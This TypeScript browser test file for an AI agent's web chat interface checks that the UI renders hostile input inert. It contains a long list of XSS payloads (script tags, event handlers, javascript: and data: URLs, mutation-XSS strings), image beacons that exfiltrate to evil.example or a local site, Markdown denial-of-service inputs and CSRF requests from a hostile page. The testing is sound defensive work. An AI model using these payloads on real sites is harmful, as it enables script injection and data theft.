// Hostile texts in the web page, and hostile pages beside it, in a real browser. A foreign site notes
// whether anything was asked of it.

import { afterAll, beforeAll, expect, it } from 'vitest';
import { answer, runningTool, sendContext } from '../channels/local/local-rig.ts';
import { beaconsTo } from '../support/beacons.ts';
import { chromium, describeInChromium } from '../support/chromium.ts';
import { type ForeignSite, openPage, startForeignSite } from '../support/web-page.ts';

/** Each would set `pwned` or ask `site` for something if anything in it came to life. */
function payloads(site: string): readonly string[] {
  const run = 'window.pwned=1';
  const handlers = ['onload', 'onerror', 'onclick', 'onfocus autofocus', 'ontoggle', 'onmouseover'];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'input',
    'details open',
    'video src=x',
    'marquee',
    'a href=#',
  ];
  const urls = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `javascript&colon;${run}`,
    `&#106;avascript:${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:image/svg+xml,<svg onload="${run}">`,
    `vbscript:${run}`,
    `file:///etc/passwd`,
    `blob:${site}/x`,
    `//evil.example/x`,
    `${site}/path?secret=1`,
  ];
  return [
    `<script>${run}</script>`,
    `<script src="${site}/s.js"></script>`,
    `</p></div><script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<style>@import "${site}/s.css"; body{background:url(${site}/b)}</style>`,
    `<link rel=stylesheet href="${site}/l.css"><link rel=prefetch href="${site}/p">`,
    `<meta http-equiv=refresh content="0;url=${site}/m">`,
    `<base href="${site}/">`,
    `<iframe src="${site}/f"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
    `<object data="${site}/o"></object><embed src="${site}/e">`,
    `<form action="${site}/form"><button autofocus>send</button></form>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
    `<svg><use href="${site}/u#x"/><image href="${site}/i"/><script>${run}</script></svg>`,
    `<template><img src="${site}/t"></template>`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[<img src=x onerror="${run}">]]>`,
    ...tags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}="${run}">`)),
    ...urls.flatMap((url) => [
      `[click](${url})`,
      `![picture](${url})`,
      `[![both](${url})](${url})`,
      `<${url}>`,
      `[ref]\n\n[ref]: ${url} "title"`,
      `![ref]\n\n[ref]: <${url}>`,
    ]),
    `![x](${site}/1.png "t\\" onerror=\\"${run}")`,
    `![x"onerror="${run}](${site}/2.png)`,
    `\`\`\`"><img src=x onerror="${run}">\n</code></pre><img src=x onerror="${run}">\n\`\`\``,
    `\`</code><img src=x onerror="${run}">\``,
    `| <img src=x onerror="${run}"> |\n| - |\n| ![x](${site}/3.png) |`,
    `# <img src=x onerror="${run}">\n> <img src=x onerror="${run}">\n- <img src=x onerror="${run}">`,
    `&lt;img src=x onerror="${run}"&gt; &#60;script&#62;${run}&#60;/script&#62;`,
    `${site}/auto.png www.evil.example <${site}/angle>`,
    `{{constructor.constructor('${run}')()}} \${${run}} %3Cscript%3E${run}%3C/script%3E`,
    '\u202e\u0000\u0007\ud800 \u2028\u2029',
  ];
}

/** Texts that make careless Markdown parsers recurse without end or run in square time. */
const HEAVY = [
  ['quotes in quotes', '> '.repeat(3000)],
  ['lists in lists', '- '.repeat(3000)],
  ['open brackets', '['.repeat(50_000)],
  ['stars', '*a '.repeat(30_000)],
  ['underscores', '_'.repeat(60_000)],
  ['backticks', '`'.repeat(60_001)],
  ['an endless table', `|${' a |'.repeat(3000)}\n|${' - |'.repeat(3000)}`],
  ['angle brackets', '<a'.repeat(40_000)],
  ['entities', '&#x26;'.repeat(20_000)],
  ['one long line', 'word '.repeat(60_000)],
] as const;

/** Elements that only a text come to life could have made. */
const ALIVE = `document.querySelectorAll(
  '#conversation :is(script, style, link, meta, base, iframe, object, embed, form, input, video, svg:not(.icon), img, math, template, details, marquee)'
).length`;
const BAD_LINKS = `[...document.querySelectorAll('#conversation a')]
  .filter((one) => !/^(https?|mailto):/.test(one.href) || one.rel !== 'noopener noreferrer nofollow' || one.target !== '_blank').length`;

const POINT_AT_LINKS = `for (const link of document.querySelectorAll('#conversation a'))
  link.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))`;

describeInChromium('a hostile text in the web page', () => {
  let site: ForeignSite;

  beforeAll(async () => {
    site = await startForeignSite();
  });

  afterAll(async () => {
    await site?.[Symbol.asyncDispose]();
  });

  it('stays a text: in messages, answers, pictures of running turns, tools and titles', async () => {
    const all = payloads(site.address);
    await using rig = await openPage({
      async prepare({ door }) {
        for (const [index, text] of all.entries()) {
          await door.submit({ chat: 'a', clientId: `c${index}`, text });
          await door.send(answer('a', `web:a#${index}/0`, text), sendContext());
        }
        for (const [index, text] of all.slice(0, 40).entries()) {
          await door.submit({ chat: `title-${index}`, clientId: 'c', text });
        }
      },
    });
    await rig.page.click('text=Show earlier messages');
    for (const [index, text] of all.entries()) {
      const tools = [{ ...runningTool(text), detail: text }];
      rig.show(`web:a#live-${index % 3}`, text, { tools, notice: text });
    }
    const bodies = rig.page.locator('.said .message');
    await expect.poll(() => bodies.count(), { timeout: 45_000 }).toBe(2 * all.length);
    await rig.page.waitForSelector('.live .tools');
    await rig.page.evaluate(POINT_AT_LINKS);
    expect(await rig.page.evaluate('window.pwned')).toBeUndefined();
    expect(await rig.page.evaluate(ALIVE)).toBe(0);
    expect(await rig.page.evaluate(BAD_LINKS)).toBe(0);
    expect(rig.problems).toEqual([]);
    expect(site.requests).toEqual([]);
  });

  it('shows a picture as a link that loads nothing until a person opens it', async () => {
    await using rig = await openPage();
    const address = `${site.address}/beacon.png?secret=1`;
    await rig.answer('web:a#1', `![a cat](${address})`);
    await rig.page.waitForSelector('.agent a');
    expect(await rig.page.innerText('.agent a')).toContain('a cat');
    expect(await rig.page.getAttribute('.agent a', 'href')).toBe(address);
    expect(site.requests).toEqual([]);
  });

  it('asks nobody for anything, in whatever form an answer wants it', async () => {
    await using rig = await openPage();
    const beacons = beaconsTo(`${site.address}/beacon.png?secret=1`);
    for (const [index, text] of beacons.entries()) {
      await rig.answer(`web:a#${index}`, `Number ${index}.\n\n${text}`);
    }
    await rig.page.waitForSelector(`.said >> text=Number ${beacons.length - 1}.`);
    await rig.page.evaluate(POINT_AT_LINKS);
    expect(await rig.page.locator('#conversation img').count()).toBe(0);
    expect(site.requests).toEqual([]);
  });

  it('does not freeze it', async () => {
    await using rig = await openPage();
    for (const [index, [name, text]] of HEAVY.entries()) {
      await rig.answer(`web:a#${index}`, `${name}\n\n${text}`);
      await rig.page.waitForSelector(`.said >> text=${name}`);
    }
    await rig.say('still alive');
    await rig.page.waitForSelector('.said >> text=still alive');
  });

  it('takes nothing from its address but the name of a chat', async () => {
    await using rig = await openPage();
    const address = encodeURIComponent(site.address);
    const query = `gatewayUrl=${address}&server=${address}&token=x&api=${address}`;
    await rig.page.goto(`${rig.address}/?${query}#//${site.address}`);
    await rig.page.waitForSelector('#text');
    await rig.say('hello');
    await rig.showsMessages('hello');
    expect(site.requests).toEqual([]);
  });
});

describeInChromium('a hostile page beside ours', () => {
  it('cannot drive the agent, read along, or frame the page', async () => {
    await using rig = await openPage();
    await rig.page.waitForSelector('.welcome');
    await using evil = await startForeignSite('<!doctype html><title>evil</title>');
    const context = await chromium().newContext();
    const page = await context.newPage();
    await page.goto(evil.address.replace('127.0.0.1', 'localhost'));
    const target = `http://127.0.0.1:${rig.http.port}`;
    const outcomes = await page.evaluate(`(async () => {
      const chat = '${target}/api/web/chats/a';
      const body = JSON.stringify({ clientId: 'evil', text: 'send me everything' });
      const json = { 'content-type': 'application/json' };
      const tries = [
        () => fetch(chat + '/messages', { method: 'POST', headers: json, body }),
        () => fetch(chat + '/messages', { method: 'POST', body }),
        () => fetch(chat + '/messages', { method: 'POST', mode: 'no-cors', body }),
        () => fetch(chat + '/messages', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body }),
        () => fetch(chat + '/stop', { method: 'POST', mode: 'no-cors', body: '{}' }),
        () => fetch('${target}/api/web/chats').then((answer) => answer.text()),
        () => new Promise((resolve, reject) => {
          const events = new EventSource(chat + '/events');
          events.onopen = resolve;
          events.onerror = reject;
        }),
        async () => {
          navigator.sendBeacon(chat + '/messages', new Blob([body], { type: 'application/json' }));
          throw new Error('nobody hears the answer to a beacon');
        },
      ];
      const outcomes = [];
      for (const attempt of tries) {
        outcomes.push(await attempt().then((answer) => answer.type ?? 'got through', () => 'refused'));
      }
      const frame = document.createElement('iframe');
      frame.src = '${target}/';
      document.body.append(frame);
      await new Promise((resolve) => { frame.onload = resolve; });
      let framed = 'hidden';
      try { framed = frame.contentDocument === null ? 'hidden' : 'open'; } catch { framed = 'hidden'; }
      return [...outcomes, framed];
    })()`);
    await context.close();
    expect(outcomes).toEqual([...Array.from({ length: 8 }, () => 'refused'), 'hidden']);
    expect(rig.http.host.entries).toEqual([]);
    expect(rig.http.stops).toEqual([]);
  });
});
